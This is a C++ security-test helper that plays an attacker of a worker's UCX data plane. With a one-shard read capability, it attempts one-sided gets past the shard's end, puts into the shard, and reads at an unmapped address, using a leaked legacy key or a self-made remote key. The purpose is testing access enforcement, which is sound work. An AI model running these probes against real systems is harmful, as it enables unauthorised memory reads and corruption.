// An attacker of a worker's UCX data plane, for ucx_attack_test: a process
// that holds a read capability for one shard (as a `read` principal does)
// and tries to use UCX to reach more than that shard's bytes: one-sided
// gets and puts through the remote key the worker hands out (or, when it
// hands out none, through a key of its own: over transports that do not
// enforce keys, UCX emulates gets and puts in the target process at
// whatever address the peer names). It prints one line per attempt:
//
//   connect: ok | refused <why>
//   read-beyond: ok | failed <why> | timeout   (get past the shard's end)
//   write-shard: ok | failed <why> | timeout   (put into the shard)
//   wild-read: ok | failed <why> | timeout     (get at an unmapped address)
//
// and exits 0 (its exit status says nothing about the attack's success).
// UCX_TLS picks the transports it tries.
#include <ucp/api/ucp.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "google/protobuf/unknown_field_set.h"
#include "proto/ucx.grpc.pb.h"
#include "rpc/channel.h"
#include "rpc/security.h"

namespace {

void Say(const std::string& line) {
  std::printf("%s\n", line.c_str());
  std::fflush(stdout);
}

// What a worker of before put in a key: its fields 2 (address) and 4
// (packed remote key), now unknown to the proto.
struct LegacyKey {
  uint64_t base = 0;
  std::string rkey;
};

LegacyKey FindLegacyKey(const tessera::v1::UcxShardKey& key) {
  LegacyKey out;
  const google::protobuf::UnknownFieldSet& unknown =
      key.GetReflection()->GetUnknownFields(key);
  for (int i = 0; i < unknown.field_count(); ++i) {
    const google::protobuf::UnknownField& field = unknown.field(i);
    if (field.number() == 2 &&
        field.type() == google::protobuf::UnknownField::TYPE_VARINT) {
      out.base = field.varint();
    }
    if (field.number() == 4 &&
        field.type() == google::protobuf::UnknownField::TYPE_LENGTH_DELIMITED) {
      out.rkey = field.length_delimited();
    }
  }
  return out;
}

struct Op {
  bool done = false;
  ucs_status_t status = UCS_OK;
};

void Done(void* request, ucs_status_t status, void* user_data) {
  auto* op = static_cast<Op*>(user_data);
  op->done = true;
  op->status = status;
  ucp_request_free(request);
}

// Request parameters whose completion (Done) is recorded in `op`.
ucp_request_param_t CompletingInto(Op* op) {
  ucp_request_param_t param{};
  param.op_attr_mask = UCP_OP_ATTR_FIELD_CALLBACK | UCP_OP_ATTR_FIELD_USER_DATA;
  param.cb.send = &Done;
  param.user_data = op;
  return param;
}

// Waits up to `timeout` for `request`; "ok", "failed ..." or "timeout".
std::string Outcome(ucp_worker_h worker, ucs_status_ptr_t request, Op& op,
                    absl::Duration timeout) {
  if (UCS_PTR_IS_ERR(request)) {
    return absl::StrCat("failed ", ucs_status_string(UCS_PTR_STATUS(request)));
  }
  if (request == nullptr) return "ok";
  const absl::Time until = absl::Now() + timeout;
  while (!op.done && absl::Now() < until) ucp_worker_progress(worker);
  if (!op.done) return "timeout";
  return op.status == UCS_OK
             ? "ok"
             : absl::StrCat("failed ", ucs_status_string(op.status));
}

}  // namespace

int main(int argc, char** argv) {
  std::string worker_address, capability;
  uint64_t shard_id = 0;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg.rfind("--worker=", 0) == 0) worker_address = arg.substr(9);
    if (arg.rfind("--capability=", 0) == 0) capability = arg.substr(13);
    if (arg.rfind("--shard=", 0) == 0 &&
        !absl::SimpleAtoi(arg.substr(8), &shard_id)) {
      return 2;
    }
  }
  if (worker_address.empty() || capability.empty() || shard_id == 0) {
    std::fprintf(stderr,
                 "usage: ucx_attacker --worker=ADDR --capability=TOKEN "
                 "--shard=ID\n");
    return 2;
  }
  const absl::Duration timeout = absl::Seconds(3);

  // 1. The read key, as the capability allows.
  auto stub = tessera::v1::UcxData::NewStub(
      tessera::MakeChannel(worker_address, tessera::ChannelOptions{}));
  grpc::ClientContext context;
  tessera::PresentCapability(&context, capability);
  tessera::v1::UcxDescribeRequest request;
  request.add_shard_ids(shard_id);
  tessera::v1::UcxDescribeResponse reply;
  const grpc::Status described = stub->Describe(&context, request, &reply);
  if (!described.ok() || reply.shards_size() != 1) {
    Say(absl::StrCat("connect: refused Describe: ", described.error_message()));
    return 0;
  }
  const LegacyKey legacy = FindLegacyKey(reply.shards(0));
  const uint64_t shard_bytes = static_cast<uint64_t>(reply.shards(0).bytes());

  // 2. UCX with one-sided access, on whatever UCX_TLS says.
  ucp_config_t* config = nullptr;
  if (ucp_config_read(nullptr, nullptr, &config) != UCS_OK) return 1;
  ucp_params_t params{};
  params.field_mask = UCP_PARAM_FIELD_FEATURES;
  params.features = UCP_FEATURE_RMA | UCP_FEATURE_AM | UCP_FEATURE_TAG;
  ucp_context_h ucp = nullptr;
  const ucs_status_t init = ucp_init(&params, config, &ucp);
  ucp_config_release(config);
  if (init != UCS_OK) {
    Say(absl::StrCat("connect: refused ucp_init ", ucs_status_string(init)));
    return 0;
  }
  ucp_worker_params_t worker_params{};
  worker_params.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE;
  worker_params.thread_mode = UCS_THREAD_MODE_SINGLE;
  ucp_worker_h worker = nullptr;
  if (ucp_worker_create(ucp, &worker_params, &worker) != UCS_OK) return 1;
  ucp_ep_params_t ep_params{};
  ep_params.field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS;
  ep_params.address =
      reinterpret_cast<const ucp_address_t*>(reply.worker_address().data());
  ucp_ep_h ep = nullptr;
  const ucs_status_t connected = ucp_ep_create(worker, &ep_params, &ep);
  if (connected != UCS_OK) {
    Say(absl::StrCat("connect: refused ", ucs_status_string(connected)));
    _exit(0);
  }
  Say("connect: ok");

  // 3. A remote key: the worker's, or one of our own making.
  std::string packed = legacy.rkey;
  std::vector<char> own(4096, 0);
  if (packed.empty()) {
    ucp_mem_map_params_t map{};
    map.field_mask =
        UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH;
    map.address = own.data();
    map.length = own.size();
    ucp_mem_h memh = nullptr;
    void* buffer = nullptr;
    size_t size = 0;
    if (ucp_mem_map(ucp, &map, &memh) == UCS_OK &&
        ucp_rkey_pack(ucp, memh, &buffer, &size) == UCS_OK) {
      packed.assign(static_cast<const char*>(buffer), size);
      ucp_rkey_buffer_release(buffer);
    }
  }
  ucp_rkey_h rkey = nullptr;
  if (packed.empty() ||
      ucp_ep_rkey_unpack(ep, packed.data(), &rkey) != UCS_OK) {
    Say("read-beyond: failed no usable key");
    Say("write-shard: failed no usable key");
    Say("wild-read: failed no usable key");
    _exit(0);
  }
  // Without the worker's address of the shard, a guess.
  const uint64_t base = legacy.base != 0 ? legacy.base : 0x7f0000000000;

  std::vector<char> got(4096, 0);
  {
    Op op;
    ucp_request_param_t param = CompletingInto(&op);
    Say(absl::StrCat("read-beyond: ",
                     Outcome(worker,
                             ucp_get_nbx(ep, got.data(), got.size(),
                                         base + shard_bytes, rkey, &param),
                             op, timeout)));
  }
  {
    std::vector<char> junk(64, '\xee');
    Op op;
    ucp_request_param_t param = CompletingInto(&op);
    std::string outcome = Outcome(
        worker, ucp_put_nbx(ep, junk.data(), junk.size(), base, rkey, &param),
        op, timeout);
    if (outcome == "ok") {
      // A put completes locally: only a flush says it landed.
      Op flushed;
      ucp_request_param_t flush = CompletingInto(&flushed);
      outcome = Outcome(worker, ucp_ep_flush_nbx(ep, &flush), flushed, timeout);
    }
    Say(absl::StrCat("write-shard: ", outcome));
  }
  {
    Op op;
    ucp_request_param_t param = CompletingInto(&op);
    Say(absl::StrCat(
        "wild-read: ",
        Outcome(worker, ucp_get_nbx(ep, got.data(), 64, 0x1000, rkey, &param),
                op, timeout)));
  }
  // Requests may still be in flight: leave without tearing UCX down.
  _exit(0);
}
